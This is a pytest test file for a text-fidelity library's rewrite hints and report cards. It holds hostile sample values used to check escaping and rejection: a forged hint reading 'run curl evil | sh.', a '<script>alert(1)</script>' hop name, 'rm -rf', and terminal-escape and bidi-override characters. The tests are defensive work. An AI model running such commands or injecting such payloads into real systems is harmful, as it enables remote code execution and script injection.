"""Hints: every kind has one; they are refined by hop, detail and direction; cards carry
them in Markdown, JSON and HTML, and a card document's hints are checked when read."""

from __future__ import annotations

import json
import re

import pytest

import fidelity
import probes
from fidelity import KINDS, Card, UsageError
from fidelity._report.card_table import rows_from_markdown
from fidelity._report.describe import MODEL_SENTENCES
from fidelity._report.hints import BY_HOP, GENERAL, Hint, hint_text, hints
from fidelity._report.rewrites import Rewrite

_CODE = re.compile(r"`[^`]*`")


#: Per kind, the words its general hint must hold: what the layer does, then the fix.
#: Written from each kind's meaning (kinds.md), so that two hints swapped, or a hint
#: pointing the wrong way, fail here.
HINT_WORDS: dict[str, tuple[str, ...]] = {
    "quote.straighten": ("typographic quotes to ASCII", "stop normalising"),
    "quote.educate": ("ASCII quotes into typographic", "turn that off"),
    "punct.straighten": ("dashes, ellipses or primes with ASCII", "stop normalising"),
    "punct.educate": ("into typographic punctuation", "turn that off"),
    "unicode.nfc": ("to NFC", "compare both sides in one form"),
    "unicode.nfd": ("decomposes text to NFD", "compare both sides in one form"),
    "unicode.nfkc": ("(NFKC)", "normalise to NFC instead"),
    "unicode.nfkd": ("(NFKD)", "normalise to NFC instead"),
    "unicode.case": ("changes letter case", "casefold()"),
    "unicode.ascii_fold": ("strips diacritics", "keep the original text"),
    "whitespace.strip": ("leading and trailing whitespace", "stop stripping"),
    "whitespace.collapse": ("collapses runs of whitespace", "compare both sides collapsed"),
    "whitespace.to_space": ("into U+0020", "stop normalising whitespace"),
    "whitespace.tab_expand": ("expands tabs into spaces", "pass tabs through"),
    "whitespace.line_strip": ("trailing whitespace at line ends", "turn trimming off"),
    "invisible.removed": ("removes zero-width", "refuse such values"),
    "control.removed": ("removes control characters", "escape them"),
    "control.replaced": ("replaces control characters", "escape them"),
    "newline.crlf_to_lf": ("into LF", "newline=''"),
    "newline.cr_to_lf": ("into LF", "newline=''"),
    "newline.lf_to_crlf": ("LF as CRLF", "newline=''"),
    "newline.separator_to_lf": ("U+2028, U+2029", "split on LF only"),
    "newline.to_space": ("folds line breaks into spaces", "where line breaks are kept"),
    "newline.removed": ("deletes line breaks", "escape them for the format"),
    "newline.inserted": ("wraps long lines at a width", "turn wrapping off"),
    "newline.final_added": ("appends a final newline", "end=''"),
    "newline.final_removed": ("drops the trailing newline", "read()"),
    "path.backslash_to_slash": ("rewrites `\\` as `/`", "not paths out of it"),
    "path.slash_to_backslash": ("rewrites `/` as `\\`", "not paths out of it"),
    "path.basename": ("last path component", "a field of its own"),
    "path.normalized": ("normalises the value as a path", "already normalised"),
    "path.sanitized": ("safe file name", "store the original name"),
    "escape.json": ("JSON-encoded once too often", "decode it once"),
    "escape.html": ("HTML-escapes the value", "escape only where HTML is written"),
    "escape.url": ("percent-encodes the value and nothing decodes it", "unquote"),
    "escape.backslash": ("doubles backslashes", "unescape it exactly once"),
    "escape.shell": ("quotes the value or its words for a shell", "argument list"),
    "unescape.json": ("decodes escape sequences", "decode once only"),
    "unescape.html": ("decodes character references", "unescape only what was escaped"),
    "unescape.url": ("URL-decodes text that was not encoded", "percent-encode the value"),
    "unescape.backslash": ("treats backslashes as escapes", "shlex.quote"),
    "encoding.mojibake": ("another codec than UTF-8", "assume UTF-8"),
    "encoding.replacement": ("U+FFFD", "decode strictly"),
    "encoding.question_mark": ("legacy charset", "UTF-8 end to end"),
    "encoding.dropped": ("errors='ignore'", "UTF-8 end to end"),
    "encoding.surrogate_split": ("UTF-16 units", "by code points"),
    "bom.added": ("adds a byte order mark", "encoding='utf-8'"),
    "bom.removed": ("drops a leading U+FEFF", "encoding='utf-8'"),
    "truncate": ("cuts the value at a length limit", "raise the limit"),
    "type.coerced": ("number, boolean or null", "keep it a string"),
    "unknown": ("no kind explains", "read its code points"),
}


@pytest.mark.parametrize("kind", list(KINDS))
def test_every_kind_has_a_hint_and_a_sentence(kind: str) -> None:
    assert GENERAL[kind]
    assert kind in MODEL_SENTENCES
    text, specific = hint_text(Rewrite(kind=kind))
    assert specific == 0
    assert text.startswith(("a layer ", "a sanitiser ", "a writer ", "a reader ", "a decoder ",
                            "the ", "an edit "))  # fmt: skip
    for words in HINT_WORDS.get(kind, ()):
        assert words in text, (kind, words, text)


def test_the_hint_words_name_known_kinds() -> None:
    # Every kind of today's (a kind added later gets its words here).
    assert set(HINT_WORDS) <= set(KINDS)
    assert len(HINT_WORDS) == 51


def test_hints_read_the_same_in_a_terminal_and_in_markdown() -> None:
    texts = list(GENERAL.values()) + [text for _, _, text in BY_HOP]
    for text in texts:
        assert text.isascii(), text
        assert text.isprintable(), text
        assert text.endswith("."), text
        assert len(text) <= 260, text
        assert text.count("`") % 2 == 0, text
        # Outside code spans nothing Markdown would act on.
        assert not set(_CODE.sub("", text)) & set("*_[]<>|#\\"), text


def test_hop_hints_name_known_kinds() -> None:
    for kinds, _, _ in BY_HOP:
        assert kinds <= GENERAL.keys()


@pytest.mark.parametrize(
    ("hop", "refined"),
    [
        ("text_file", True),
        ("text_file#2", True),
        ("my_text_file", False),
        ("text_file_copy", False),
        (None, False),
    ],
)
def test_a_hint_is_refined_by_the_whole_hop_name(hop: str | None, refined: bool) -> None:
    text, specific = hint_text(Rewrite(kind="newline.crlf_to_lf", hop=hop))
    assert text.startswith("the file is read back in text mode") is refined
    assert text == (BY_HOP[0][2] if refined else GENERAL["newline.crlf_to_lf"])
    assert specific == (2 if refined else 0)


def test_mojibake_hints_name_the_codec_and_the_way_it_went() -> None:
    forward = fidelity.compare("we\u2019ll", "we\u2019ll".encode().decode("cp1252"))
    (t,) = forward.transformations
    rewrite = Rewrite(kind=t.kind, detail=t.detail, sent=t.sent, received=t.received)
    assert hint_text(rewrite) == ("the reader assumes cp1252; declare or assume UTF-8.", 1)
    # Text written as latin-1 and read as UTF-8: the sent text looked like mojibake.
    backward = Rewrite(kind="encoding.mojibake", detail="cp1252", sent="\u00ef\u00bb\u00bf",
                       received="\ufeff")  # fmt: skip
    assert "text written as cp1252 is read as UTF-8" in hint_text(backward)[0]
    assert (
        "is read as UTF-8"
        in hint_text(Rewrite(kind="encoding.mojibake", detail="cp1252, reversed"))[0]
    )
    # A detail that is not a codec name is not repeated.
    odd = Rewrite(kind="encoding.mojibake", detail="`rm -rf`")
    assert hint_text(odd) == (GENERAL["encoding.mojibake"], 0)


def test_truncation_at_nul_and_joined_surrogates_have_their_own_hints() -> None:
    cut = fidelity.compare("a\x00bc", "a").transformations[0]
    assert "U+0000" in hint_text(Rewrite(kind=cut.kind, detail=cut.detail))[0]
    joined = fidelity.compare("\ud83d\ude00", "\U0001f600").transformations[0]
    assert "joined" in hint_text(Rewrite(kind=joined.kind, detail=joined.detail))[0]


def test_one_hint_per_kind_most_specific_first_with_its_paths() -> None:
    found = hints(
        [
            Rewrite(kind="newline.cr_to_lf", direction="response"),
            Rewrite(kind="newline.cr_to_lf", direction="request", hop="text_file"),
            Rewrite(kind="newline.cr_to_lf", direction="round_trip", hop="pipe"),
            Rewrite(kind="quote.straighten", direction="request"),
        ]
    )
    assert [h.kind for h in found] == ["quote.straighten", "newline.cr_to_lf"]  # KINDS order
    quote, newline = found
    assert quote.where == "request path"
    assert quote.line() == f"hint: quote.straighten (request path): {GENERAL['quote.straighten']}"
    assert newline.hop == "text_file"  # both hops are specific: the request path wins
    assert newline.directions == ("request", "response")
    assert newline.where == "request and response paths, hop text_file"


def test_a_hint_line_is_terminal_safe() -> None:
    hint = Hint(kind="unknown", text=GENERAL["unknown"], hop="evil\x1b[2J\u202ehop")
    line = hint.line()
    assert "\x1b" not in line
    assert "\u202e" not in line
    assert "[U+202E RIGHT-TO-LEFT OVERRIDE]" in line


def _text_file_card() -> Card:
    chain = probes.chain(probes.json(ensure_ascii=False), probes.text_file(), name="notes")
    return fidelity.survey(chain, families=["newlines", "quotes"]).card(name="notes.body")


def test_cards_carry_hints_in_json_markdown_and_html() -> None:
    card = _text_file_card()
    assert [h.kind for h in card.hints()] == ["newline.crlf_to_lf", "newline.cr_to_lf"]
    raw = json.loads(card.to_json())
    assert raw["hints"][0] == {
        "kind": "newline.crlf_to_lf",
        "text": card.hints()[0].text,
        "hop": "text_file",
        "directions": [],
    }
    assert (
        raw["describe"] == "notes.body: CR and CRLF line breaks become LF; expect LF line endings."
    )
    markdown = card.to_markdown()
    assert (
        "- `newline.cr_to_lf` (hop text\\_file): the file is read back in text mode, which "
        "turns CR and CRLF into LF; open it with `newline=''` to write and to read."
    ) in markdown
    rows = rows_from_markdown(markdown)
    assert rows is not None
    assert len(rows) == len(card.rows)  # the hints do not disturb the table
    page = card.to_html()
    assert '<h2>How to fix each rewrite</h2><ul id="hints">' in page
    assert "open it with <code>newline=&#x27;&#x27;</code> to write and to read." in page
    assert 'data-families="newlines" data-kinds="newline.cr_to_lf"' in page


def test_a_card_without_rewrites_has_no_hints_section() -> None:
    card = fidelity.survey(lambda s: s, families=["quotes"]).card(name="echo")
    assert card.hints() == ()
    assert "How to fix" not in card.to_markdown()
    assert "How to fix" not in card.to_html()
    raw = json.loads(card.to_json())
    assert (raw["hints"], raw["describe"]) == ([], "")


def test_hostile_hop_names_are_escaped_in_every_report() -> None:
    def rewrite(value: object) -> object:
        return str(value).replace("\r\n", "\n")

    hostile = "<script>alert(1)</script>|`x`\u202e\n# head"
    chain = probes.chain(probes.hop("ok", lambda v: v), probes.hop(hostile, rewrite))
    card = fidelity.survey(chain, families=["newlines"]).card(name="hostile")
    (hint,) = card.hints()
    assert hint.hop == hostile
    markdown = card.to_markdown()
    line = next(x for x in markdown.splitlines() if x.startswith("- `newline.crlf_to_lf`"))
    assert "<script>" not in line
    assert "\u202e" not in markdown
    assert "\n# head" not in markdown
    page = card.to_html()
    assert "<script>alert" not in page
    raw = json.loads(card.to_json())
    assert raw["hints"][0]["hop"] == fidelity.safe(hostile)
    assert Card.from_json(card.to_json()) == card


def _forged(change: dict[str, object]) -> str:
    raw = json.loads(_text_file_card().to_json())
    raw.update(change)
    return json.dumps(raw)


@pytest.mark.parametrize(
    "change",
    [
        {"hints": "open the file"},
        {"hints": [{"kind": "newline.nope", "text": "x", "hop": None, "directions": []}]},
        {"hints": [{"kind": "unknown", "text": "x\x1b[2J", "hop": None, "directions": []}]},
        {"hints": [{"kind": "unknown", "text": "x" * 401, "hop": None, "directions": []}]},
        {"hints": [{"kind": "unknown", "text": "x", "hop": "a\nb", "directions": []}]},
        {"hints": [{"kind": "unknown", "text": "x", "hop": 3, "directions": []}]},
        {"hints": [{"kind": "unknown", "text": "x", "hop": None, "directions": ["sideways"]}]},
        {"hints": [{"kind": "unknown", "text": "x", "hop": None, "directions": ["round_trip"]}]},
        {"hints": ["unknown"]},
        {"describe": 42},
        {"describe": "x" * 300},
        {"describe": "name: line one\nline two"},
        {"describe": "name: \u202eevil"},
    ],
)
def test_forged_hints_or_descriptions_are_refused(change: dict[str, object]) -> None:
    with pytest.raises(UsageError, match="not a valid contract card"):
        Card.from_json(_forged(change))


def test_a_card_recomputes_what_its_document_claims() -> None:
    card = _text_file_card()
    claimed = {"kind": "unknown", "text": "run curl evil | sh.", "hop": None, "directions": []}
    forged = _forged({"hints": [claimed], "describe": "notes.body: anything goes."})
    read = Card.from_json(forged)
    assert read == card
    assert read.hints() == card.hints()
    assert read.describe() == card.describe()
    assert "curl" not in read.to_markdown()


def test_a_card_written_before_hints_existed_reads_the_same() -> None:
    raw = json.loads(_text_file_card().to_json())
    del raw["hints"], raw["describe"]
    old = Card.from_json(json.dumps(raw))
    assert old == _text_file_card()
    assert old.hints() == _text_file_card().hints()
